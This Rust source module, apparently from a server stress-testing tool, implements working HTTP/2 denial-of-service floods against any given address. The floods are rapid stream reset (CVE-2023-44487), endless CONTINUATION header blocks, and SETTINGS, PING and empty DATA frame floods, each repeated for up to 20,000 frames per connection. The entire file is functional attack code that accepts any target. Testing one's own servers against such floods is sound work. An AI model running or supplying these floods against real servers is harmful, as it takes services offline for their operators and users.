//! Floods of HTTP/2 frames (RFC 9113 §10.5): streams opened and reset at once (CVE-2023-44487), header blocks without
//! an end, settings, pings, empty data.

use std::io::Write;
use std::net::{SocketAddr, TcpStream};
use std::time::Instant;

use super::Tally;
use super::connection::connect;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
/// `:method GET`, `:scheme http`, `:path /` of the static table, and an `:authority` (RFC 7541, appendix A).
const BLOCK: &[u8] = &[0x82, 0x86, 0x84, 0x41, 0x01, b'a'];
/// Frames of one flood at most.
const FRAMES: u32 = 20_000;

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RESET: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const CONTINUATION: u8 = 9;

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = (payload.len() as u32).to_be_bytes();
    let mut frame = length[1..].to_vec();
    frame.extend([kind, flags]);
    frame.extend(stream.to_be_bytes());
    frame.extend(payload);
    frame
}

/// The frames of a flood that begin with number `n`.
type Flood = fn(n: u32) -> Vec<u8>;

const FLOODS: &[(&str, Flood)] = &[
    ("rapid reset", |n| {
        let stream = 2 * n + 1;
        let mut both = frame(HEADERS, 0x5, stream, BLOCK);
        both.extend(frame(RESET, 0, stream, &8_u32.to_be_bytes()));
        both
    }),
    ("endless header block", |n| match n {
        0 => frame(HEADERS, 0, 1, BLOCK),
        _ => frame(CONTINUATION, 0, 1, &[0x40, 1, b'x', 1, b'y'].repeat(100)),
    }),
    ("settings", |_| frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0xff, 0xff])),
    ("pings", |_| frame(PING, 0, 0, &[0; 8])),
    ("empty data", |n| match n {
        0 => frame(HEADERS, 0x4, 1, BLOCK),
        _ => frame(DATA, 0, 1, b""),
    }),
];

/// One flood after another until it is over.
pub(super) fn flood(address: SocketAddr, tally: &Tally) {
    let mut round = FLOODS.iter().cycle();
    while let Some((name, flood)) = round.next().filter(|_| tally.goes_on()) {
        let begun = Instant::now();
        let how = match connect(address) {
            Some(stream) => pour(stream, *flood, tally),
            None => "not connected",
        };
        tally.note(&format!("{name} {how}"), begun.elapsed());
    }
}

fn pour(mut stream: TcpStream, flood: Flood, tally: &Tally) -> &'static str {
    if stream
        .write_all(PREFACE)
        .and_then(|()| stream.write_all(&frame(SETTINGS, 0, 0, b"")))
        .is_err()
    {
        return "closed at once";
    }
    for number in 0..FRAMES {
        if !tally.goes_on() {
            return "until the end";
        }
        if stream.write_all(&flood(number)).is_err() {
            return "cut short";
        }
    }
    "taken whole"
}
